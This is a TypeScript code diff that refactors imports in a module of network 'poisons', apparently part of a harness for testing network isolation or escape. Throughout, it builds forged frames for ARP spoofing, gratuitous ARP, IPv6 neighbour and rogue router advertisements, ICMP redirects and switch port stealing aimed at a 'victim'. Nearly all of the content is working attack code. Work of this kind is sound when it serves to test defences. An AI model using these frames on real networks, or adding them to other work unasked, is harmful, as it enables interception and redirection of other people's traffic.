@@ -1,15 +1,4 @@
-import {
-  address,
-  arp,
-  broadcast,
-  ethernet,
-  icmp,
-  icmpv6,
-  ipv4,
-  ipv6,
-  neighbour,
-  protocols,
-} from '../host/frames.ts';
+import * as wire from '../host/frames.ts';
 import { internet, linkLocal, type Station } from './escape-target.ts';
 
 /** A lie told to the victim: that the one it believes in is where the liar is. */
@@ -23,17 +12,21 @@ const everybody6 = { mac: '33:33:00:00:00:01', ip6: 'ff02::1' } as const;
 
 function toVictim(operation: 'request' | 'reply'): Poison['frames'] {
   return (liar, victim, believed) => {
-    const lie = arp(operation, { mac: liar.mac, ip: believed.ip }, victim);
-    return [ethernet({ from: liar.mac, to: victim.mac }, 'arp', lie)];
+    const lie = wire.arp(operation, { mac: liar.mac, ip: believed.ip }, victim);
+    return [wire.ethernet({ from: liar.mac, to: victim.mac }, 'arp', lie)];
   };
 }
 
 /** Said by the one it is about, to all, of its own accord. */
 function gratuitous(operation: 'request' | 'reply'): Poison['frames'] {
   return (liar, _, { ip }) => {
-    const target = { mac: operation === 'request' ? nobody : broadcast, ip };
+    const target = { mac: operation === 'request' ? nobody : wire.broadcast, ip };
     return [
-      ethernet({ from: liar.mac, to: broadcast }, 'arp', arp(operation, { mac: liar.mac, ip }, target)),
+      wire.ethernet(
+        { from: liar.mac, to: wire.broadcast },
+        'arp',
+        wire.arp(operation, { mac: liar.mac, ip }, target),
+      ),
     ];
   };
 }
@@ -43,8 +36,8 @@ function byNeighbour(kind: 'solicitation' | 'advertisement', to: 'victim' | 'all
     const { mac, ip6 } = to === 'all' ? everybody6 : victim;
     const ends = { from: believed.ip6, to: ip6 };
     const about = kind === 'advertisement' ? believed.ip6 : victim.ip6;
-    const message = ipv6(ends, protocols.icmpv6, neighbour(ends, kind, about, liar.mac), 255);
-    return [ethernet({ from: liar.mac, to: mac }, 'ipv6', message)];
+    const message = wire.ipv6(ends, wire.protocols.icmpv6, wire.neighbour(ends, kind, about, liar.mac), 255);
+    return [wire.ethernet({ from: liar.mac, to: mac }, 'ipv6', message)];
   };
 }
 
@@ -53,24 +46,32 @@ const advertisement: Poison['frames'] = (liar) => {
   const ends = { from: linkLocal(liar.mac), to: everybody6.ip6 };
   const source = Buffer.concat([Buffer.from([1, 1]), Buffer.from(liar.mac.replaceAll(':', ''), 'hex')]);
   // Of high preference, for half an hour.
-  const message = icmpv6(ends, 134, 0, 0x4008_0708, Buffer.concat([Buffer.alloc(8), source]));
+  const message = wire.icmpv6(ends, 134, 0, 0x4008_0708, Buffer.concat([Buffer.alloc(8), source]));
   return [
-    ethernet({ from: liar.mac, to: everybody6.mac }, 'ipv6', ipv6(ends, protocols.icmpv6, message, 255)),
+    wire.ethernet(
+      { from: liar.mac, to: everybody6.mac },
+      'ipv6',
+      wire.ipv6(ends, wire.protocols.icmpv6, message, 255),
+    ),
   ];
 };
 
 /** "To the internet by me", in the name of the gateway; the kernel believes it of an answer to a ping without any socket's say. */
 const redirect: Poison['frames'] = (liar, victim, believed) => {
-  const quoted = ipv4({ from: victim.ip, to: internet.ip }, protocols.icmp, icmp(0, 0, 1, Buffer.alloc(8)));
-  const message = icmp(5, 1, address(liar.ip).readUInt32BE(), quoted);
-  const packet = ipv4({ from: believed.ip, to: victim.ip }, protocols.icmp, message);
-  return [ethernet({ from: liar.mac, to: victim.mac }, 'ipv4', packet)];
+  const quoted = wire.ipv4(
+    { from: victim.ip, to: internet.ip },
+    wire.protocols.icmp,
+    wire.icmp(0, 0, 1, Buffer.alloc(8)),
+  );
+  const message = wire.icmp(5, 1, wire.address(liar.ip).readUInt32BE(), quoted);
+  const packet = wire.ipv4({ from: believed.ip, to: victim.ip }, wire.protocols.icmp, message);
+  return [wire.ethernet({ from: liar.mac, to: victim.mac }, 'ipv4', packet)];
 };
 
 /** Makes the bridge believe that the victim is at the liar's port. */
 const stolenPort: Poison['frames'] = (liar, victim) => {
-  const nobodyAsks = arp('request', { mac: victim.mac, ip: liar.ip }, { mac: nobody, ip: liar.ip });
-  return [ethernet({ from: victim.mac, to: broadcast }, 'arp', nobodyAsks)];
+  const nobodyAsks = wire.arp('request', { mac: victim.mac, ip: liar.ip }, { mac: nobody, ip: liar.ip });
+  return [wire.ethernet({ from: victim.mac, to: wire.broadcast }, 'arp', nobodyAsks)];
 };
 
 export const poisons: readonly Poison[] = [
